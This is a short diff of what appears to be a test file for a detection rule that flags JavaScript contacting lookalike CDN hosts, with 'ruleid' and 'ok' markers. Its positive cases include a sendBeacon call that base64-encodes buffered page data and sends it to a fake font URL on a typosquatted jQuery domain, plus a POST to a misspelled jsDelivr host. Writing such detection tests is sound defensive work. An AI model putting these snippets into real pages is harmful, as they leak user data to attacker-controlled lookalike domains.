@@ -4,7 +4,7 @@ var buf = window._b || {};
 navigator.sendBeacon('https://jquery-min.org/css2?family=Inter', btoa(JSON.stringify(buf)));
 
 // ruleid: lookalike-host-contact
-fetch('https://jsdellvr.com/npm/x', {method: 'POST', body: JSON.stringify({t: Date.now()})});
+fetch('https://cdn.jsdellver.com/npm/x', {method: 'POST', body: JSON.stringify({t: Date.now()})});
 
 // ok: lookalike-host-contact
 fetch('https://cdn.jsdelivr.net/npm/x', {method: 'POST', body: JSON.stringify({t: Date.now()})});
